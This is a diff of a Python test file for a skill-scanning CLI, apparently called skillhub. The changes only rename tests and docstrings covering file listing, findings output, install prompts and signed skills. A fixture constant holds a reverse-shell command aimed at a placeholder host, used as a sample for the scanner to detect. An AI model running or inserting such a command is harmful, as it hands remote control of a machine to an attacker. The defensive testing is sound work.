@@ -1,4 +1,4 @@
-"""A skill is read before it is installed: its files, one of them, all of them in a question; and used once."""
+"""Reading a skill before its install: its files, one file, all files from a question; and ``use``."""
 
 from __future__ import annotations
 
@@ -18,13 +18,13 @@ CRITICAL = "bash -i >& /dev/tcp/x.invalid/1 0>&1\n"
 
 @pytest.fixture
 def grave(shell):
-    """A folder with a skill in which the scan finds something high, and a binary file."""
+    """A folder with a skill that has a high finding and a binary file."""
     folder = shell.skill("project/grave", **{"scripts/run.sh": f"#!/bin/sh\necho one\n{GRAVE}"})
     (folder / "logo.png").write_bytes(b"\x89PNG\0\0\xff")
     return folder
 
 
-def test_files_are_listed_with_what_was_found_in_each(shell, grave):
+def test_files_are_listed_with_the_findings_of_each(shell, grave):
     done = shell.run("show", "./grave", "--files")
     assert (done.status, done.err) == (0, "")
     rows = done.out.splitlines()
@@ -34,7 +34,7 @@ def test_files_are_listed_with_what_was_found_in_each(shell, grave):
     assert not any(path.endswith("skillhub.lock") for path in shell.files())
 
 
-def test_a_file_is_printed_as_it_is_and_what_was_found_goes_to_stderr(shell, grave):
+def test_a_file_is_printed_unchanged_and_its_findings_go_to_stderr(shell, grave):
     done = shell.run("show", "./grave", "--file", "scripts/run.sh")
     assert (done.status, done.out) == (0, f"#!/bin/sh\necho one\n{GRAVE}")
     assert "warning: high: scripts/run.sh:3" in done.err
@@ -51,7 +51,7 @@ def test_a_file_as_json(shell, grave):
     assert shell.run("show", "./grave", "--file", "logo.png", "--json").json["text"] is None
 
 
-def test_on_a_terminal_lines_have_numbers_and_findings_stand_below_theirs(shell, grave):
+def test_a_terminal_shows_line_numbers_and_findings_below_their_lines(shell, grave):
     done = shell.at_terminal("show", "./grave", "--file", "scripts/run.sh", NO_COLOR="1")
     rows = [row.rstrip() for row in done.out.splitlines()]
     at = rows.index("| 3  " + GRAVE.strip())
@@ -68,13 +68,13 @@ def test_on_a_terminal_lines_have_numbers_and_findings_stand_below_theirs(shell,
         (["--files", "--file", "SKILL.md"], 2, "exclude each other"),
     ],
 )
-def test_what_cannot_be_shown(shell, grave, words, code, says):
+def test_a_missing_or_binary_file_is_not_shown(shell, grave, words, code, says):
     done = shell.run("show", "./grave", *words)
     assert (done.status, done.out) == (code, "")
     assert says in done.err
 
 
-def test_one_skill_of_a_place_that_holds_several(shell):
+def test_one_skill_of_several_is_chosen_by_name(shell):
     for name in ("one", "two"):
         shell.skill(f"project/many/{name}", text=f"I am {name}.")
     refused = shell.run("show", "./many")
@@ -97,7 +97,7 @@ def test_attack_no_line_of_a_file_looks_like_a_finding_or_hides(shell):
     assert hidden_in(done.raw, on_terminal=True) == []
 
 
-def test_every_line_of_a_file_is_marked_as_somebody_elses():
+def test_every_line_of_a_file_is_marked_as_quoted():
     rule = next(iter(rules().values()))
     file = File("one\n\ntwo\n\x85three\x0bfour\n".encode())
     lines = numbered("a", file, [rule.finding("a", 0), rule.finding("a", 2), rule.finding("b", 1)])
@@ -107,7 +107,7 @@ def test_every_line_of_a_file_is_marked_as_somebody_elses():
     assert len(lines) == len(ours) + 4
 
 
-def test_v_shows_the_files_and_asks_again(shell, grave):
+def test_the_answer_v_shows_the_files_and_asks_again(shell, grave):
     say = [("[v]iew its files, [N]o: ", "v\n"), ("[v]iew its files, [N]o: ", "n\n")]
     done = shell.at_terminal("install", "./grave", say=say, PAGER="cat", NO_COLOR="1")
     assert done.status == 6
@@ -128,7 +128,7 @@ def test_use_prints_the_skill_and_warns_on_stderr(shell, grave):
     assert [path for path in made if "cache" not in path.split("/")] == []
 
 
-def test_use_of_a_signed_skill_says_nothing_against_it(shell):
+def test_use_of_a_signed_skill_prints_no_warning(shell):
     done = shell.run("use", "github:release-notes", "--json")
     assert (done.status, done.json["trust"], done.json["signed_by"]) == (0, "signed", "skillhub-examples")
     assert done.json["text"].startswith("---\nname: release-notes\n")
@@ -150,7 +150,7 @@ def test_use_obeys_policies(shell):
     assert "policy" in done.err
 
 
-def test_use_of_an_installed_skill_prints_what_is_stored(shell):
+def test_use_of_an_installed_skill_prints_the_stored_text(shell):
     assert shell.run("install", "github:release-notes", "--yes").status == 0
     done = shell.run("use", "release-notes", "--offline")
     assert (done.status, done.out.splitlines()[1]) == (0, "name: release-notes")
